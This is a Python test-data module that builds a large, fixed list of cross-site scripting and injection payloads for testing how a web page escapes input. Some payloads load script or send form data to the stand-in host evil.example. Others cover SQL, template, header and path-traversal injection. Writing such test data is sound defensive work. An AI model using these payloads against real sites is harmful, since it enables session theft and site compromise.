"""Words that become markup, script or another page's structure where a page lets them: what people and mail may bring along.

payloads()   hundreds of them, each once, in an order that stays: tags, attributes, handlers, addresses that run, ends of the
             place where the words stand, entities, other encodings' brackets, invisible letters, templates' own signs
plain()      harmless ones of the same sizes: what a page looks like with these, it must look like with the others

All that run call alert(1). A NUL is in none: forms refuse it, and the database cannot hold it.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "alert(1)"

CORE = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f'<a href="javascript:{RUN}">x</a>',
)

ENDS = (
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "/>",
    "</title>",
    "</textarea>",
    "</code>",
    "</span></li></ul>",
    "</option></select>",
    "</script>",
    "</style>",
    "</noscript>",
    "</svg>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "%>",
    "*/",
    "&quot;>",
    "&#34;>",
    "\\",
    '\\">',
    "\r\n\r\n",
    "</body></html>",
)
"""What may stand before: the end of an attribute, of an element, of a comment, of the page."""

HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onclick",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "ontransitionend",
    "onbeforetoggle",
    "ontoggle",
    "onscroll",
    "onwheel",
    "oncopy",
    "onpaste",
    "oninput",
    "oninvalid",
    "onsubmit",
    "onformdata",
    "onbegin",
    "onpageshow",
    "onhashchange",
    "onmessage",
    "onstart",
    "onsecuritypolicyviolation",
)

TAGS = (
    "audio src=x",
    "body",
    "button autofocus",
    "details open",
    "div tabindex=0 autofocus",
    "embed src=x",
    "form",
    "frameset",
    "iframe",
    "image src=x",
    "input autofocus",
    "keygen autofocus",
    "link rel=stylesheet href=x",
    "marquee",
    "math",
    "object data=x",
    "select autofocus",
    "style",
    "svg",
    "table background=x",
    "textarea autofocus",
    "video poster=x",
    "x",
    "xmp",
    "dialog open",
)

URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"javascript&colon;{RUN}",
    f"&#106;avascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{RUN}",
    "//evil.example/x",
    "https://evil.example/x",
    "/\\evil.example",
)

WHERE_URLS_STAND = (
    "{}",
    '<a href="{}">x</a>',
    '<form action="{}"><button>x</button></form>',
    '<iframe src="{}"></iframe>',
)

WHOLE = (
    "<!--",
    "<!-->",
    "<!--<script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    '<svg><style><img src="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=default-src>",
    "<meta charset=utf-7>",
    "<link rel=import href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x",
    "<form action=//evil.example><input name=csrf>",
    "<form id=bulk action=//evil.example>",
    "<input form=bulk formaction=//evil.example type=submit>",
    "<button formaction=javascript:alert(1)>x",
    "<a id=location href=x><a id=location name=href>",
    "<img name=getElementById src=x>",
    "<script src=//evil.example/x.js>",
    "<script src=/static/app.js>",
    "<script type=module>import('//evil.example')</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\t>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src='x\n'onerror\n=\nalert(1)>",
    "<img \x0csrc=x \x0conerror=alert(1)>",
    "<\x0bscript>alert(1)</script>",
    "<\x7fscript>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)",
    "&#0000060script&#0000062alert(1)",
    "&LT;script&GT;alert(1)",
    "&",
    "&amp",
    "&#",
    "&#x",
    "&#0;",
    "&#xD800;",
    "&notit;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b$B<script>\x1b(Balert(1)",
    "~{<script>~}",
    "\xc0\xbcscript\xc0\xbealert(1)",
    "\xbcscript\xbealert(1)\xbc/script\xbe",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "\u02c2script\u02c3alert(1)",
    "\ufe64script\ufe65alert(1)",
    "<\u2028script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "<\ufeffscript>alert(1)</script>",
    "<\u0085script>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u2066<script>\u2069alert(1)",
    "\u200f\u061c<b>",
    "a\u0301\u0302\u0303<b>" + "\u0489" * 20,
    "\U000e0001<script>alert(1)",
    "\U0001f469\u200d\U0001f4bb<script>alert(1)</script>",
    "\ud7ff\ue000\ufffd\uffff<b>",
    "x\r\nSet-Cookie: x=y\r\n\r\n<script>alert(1)</script>",
    "x\rX-Evil: 1",
    "x\n.\nMAIL FROM:<x>",
    "=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
    "=?utf-7?Q?+ADw-script+AD4-alert(1)?=",
    "$csrf",
    "$$csrf",
    "${csrf}",
    "$content",
    "${content} $nav $scripts",
    "$",
    "${",
    "${}",
    "$1",
    "{csrf}",
    "{0.__class__}",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}",
    "%(csrf)s",
    "%s%s%s%n",
    "#{7*7}",
    "<%= 7*7 %>",
    "<?php echo 1 ?>",
    "<!--#exec cmd='id'-->",
    "*{x}",
    "[[${7*7}]]",
    "`${alert(1)}`",
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "</script><script>alert(1)</script>",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "on click=alert(1)",
    " autofocus onfocus=alert(1) ",
    "x" * 90 + "<script>alert(1)</script>",
)


def payloads() -> list[str]:
    """Each once."""
    return list(dict.fromkeys(_all()))


def plain(words: list[str]) -> list[str]:
    """Harmless words of the same sizes, no two alike. None can be a name, address or domain, as none of the payloads can."""
    return [
        f"a {n} {'x' * (len(text) - len(str(n)) - 3)}"[: max(3, len(text))] for n, text in enumerate(words)
    ]


def _all() -> Iterator[str]:
    yield from CORE
    for end in ENDS:
        yield from (end + one for one in CORE[:3])
    for n, handler in enumerate(HANDLERS):
        for tag in (TAGS[n], TAGS[-n - 1]):
            yield f"<{tag} {handler}={RUN}>"
        yield f'" {handler}={RUN} autofocus x="'
        yield f"' {handler}='{RUN}' style='animation:x"
    for url in URLS:
        yield from (place.format(url) for place in WHERE_URLS_STAND)
    yield from WHOLE
